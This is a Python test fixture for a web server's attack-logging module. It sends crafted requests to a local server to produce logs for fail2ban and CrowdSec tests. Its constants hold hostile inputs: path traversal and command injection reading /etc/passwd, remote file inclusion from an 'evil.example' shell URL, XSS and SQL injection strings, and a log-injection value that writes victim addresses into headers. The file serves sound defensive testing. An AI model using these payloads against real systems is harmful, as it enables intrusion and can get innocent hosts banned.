"""An attack log written by the real module, for the fail2ban and CrowdSec
tests: sources over and under LogWatchThreshold (its default, 3 86400),
IPv4 and IPv6, critical and lesser attacks, attackers that write other
addresses into every field they control, and benign traffic (access log,
server_error records).

    with banlog.made() as log:
        log.attack_log, log.access_log, log.records, log.attacks
        log.clients_over(3)      # sources with >= 3 attack records
"""
import collections
import contextlib
import json
import urllib.parse

import lwhttpd

# The shipped jail and scenarios are made for LogWatchThreshold's default:
# the server below runs with it (no LogWatchThreshold line), and made()
# checks on its status page that it is this.
COUNT, WINDOW = 3, 86400
EXTRA = """LogWatchRecordErrors On
LogWatchIgnoreNet 127.0.0.1 ::1
<Location /logwatch-status>
    SetHandler logwatch-status
    Require all granted
</Location>
"""

# Requests and the severity the shipped signatures give them (checked:
# a change of the signatures that moves one shows as a failed assertion,
# not as a silently different test).
HIGH = ["/home.php?pgi=../../../../../../etc/passwd",
        "/index.php?page=http://evil.example/shell.txt",
        "/cgi-bin/x?a=;cat%20/etc/passwd"]
MEDIUM = ["/phpmyadmin/"]
CRITICAL = ["/search.php?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
            "/x.php?id=1%27%20union%20select%201,2--"]

# Addresses attackers write into what they control. No rule may ban them.
VICTIM4, VICTIM6 = "203.0.113.66", "2001:db8:66::66"
INJECT = ('","client":"%s","x":"<HOST> %s \\" client:%s'
          % (VICTIM4, VICTIM4, VICTIM6))

# source -> requests (target, severity, user agent, referer)
PLAN = [
    ("198.51.100.10", [(HIGH[0], "high"), (HIGH[1], "high"),
                       (MEDIUM[0], "medium"), (HIGH[2], "high")]),
    ("198.51.100.11", [(HIGH[0], "high"), (MEDIUM[0], "medium")]),
    ("2001:db8:1::10", [(HIGH[0], "high"), (HIGH[1], "high"),
                        (HIGH[2], "high")]),
    ("2001:db8:2::11", [(HIGH[1], "high")]),
    # two critical attacks: under the threshold, over CrowdSec's
    # critical-attack scenario
    ("198.51.100.12", [(CRITICAL[0], "critical"),
                       (CRITICAL[1], "critical")]),
    ("2001:db8:3::12", [(CRITICAL[1], "critical"), (HIGH[0], "high")]),
]
# Two attackers under the threshold who together name each victim four
# times, in the URI, the User-Agent and the Referer.
INJECTORS = ["198.51.100.13", "2001:db8:4::13"]
INJECT_URI = ("/home.php?pgi=../../../../../../etc/passwd&c="
              + urllib.parse.quote(INJECT, safe=""))
# Benign traffic: plain pages (access log only) and a failing page
# (server_error records) from one source, more than the threshold's count.
BENIGN = "198.51.100.20"
BENIGN_PAGES = ["/", "/index.html", "/about.html", "/img/logo.png"]
ERROR_PAGE = "/shop/cart.php?item=42"


class Log:
    def __init__(self, h):
        self.h = h
        self.attack_log = h.attack_log
        self.access_log = h.access_log
        self.error_log = h.error_log
        self.records = []
        self.attacks = []

    def clients_over(self, n, pred=lambda r: True):
        c = collections.Counter(r["client"] for r in self.attacks if pred(r))
        return {a for a, k in c.items() if k >= n}

    def clients(self):
        return {r["client"] for r in self.attacks}


def _send(h):
    n = 0
    for src, reqs in PLAN:
        for target, _ in reqs:
            h.get(target, xff=src)
            n += 1
    for src in INJECTORS:
        for _ in range(2):
            h.get(INJECT_URI, xff=src, user_agent="Mozilla/5.0 " + INJECT,
                  referer="http://example.com/" + INJECT)
            n += 1
    for page in BENIGN_PAGES:
        h.get(page, xff=BENIGN, user_agent="Mozilla/5.0 (X11; Linux)")
    for _ in range(COUNT + 1):
        h.get(ERROR_PAGE, xff=BENIGN)
    return n


@contextlib.contextmanager
def made(mpm="event"):
    h = lwhttpd.Httpd(mpm=mpm, extra=EXTRA)
    try:
        h.start()
        st, raw = h.request("GET /logwatch-status?json HTTP/1.1",
                            [("Host", "localhost")])
        src = json.loads(raw.partition(b"\r\n\r\n")[2])["sources"]
        assert (src["threshold"], src["window_s"]) == (COUNT, WINDOW), src
        n = _send(h)
        log = Log(h)
        # the attacks, the two threshold records, the server errors
        log.records = h.wait_records(n + 2 + COUNT + 1, timeout=30)
        log.attacks = [r for r in log.records
                       if not set(r["categories"]) & {"threshold",
                                                       "server_error"}]
        _check(log)
        yield log
    finally:
        h.finish()


def _check(log):
    """The log holds what the plan says: every request an attack record
    with the planned source and severity, the threshold records, the
    server errors. The tests below rely on it."""
    want = collections.Counter()
    for src, reqs in PLAN:
        for _, sev in reqs:
            want[(src, sev)] += 1
    got = collections.Counter((r["client"], r["severity"])
                              for r in log.attacks
                              if r["client"] not in INJECTORS)
    assert got == want, (got, want)
    inj = [r for r in log.attacks if r["client"] in INJECTORS]
    assert len(inj) == 2 * len(INJECTORS), inj
    assert all(r["severity"] != "critical" for r in inj), inj
    assert all(VICTIM4 in r["uri"] and VICTIM6 in r["user_agent"]
               and VICTIM4 in r.get("referer", "") for r in inj), inj
    thr = [r for r in log.records if "threshold" in r["categories"]]
    assert sorted(r["client"] for r in thr) == sorted(
        log.clients_over(COUNT)), thr
    err = [r for r in log.records if "server_error" in r["categories"]]
    assert len(err) == COUNT + 1 and all(r["client"] == BENIGN
                                         for r in err), err
    for r in log.records:
        lwhttpd.check_record(r)
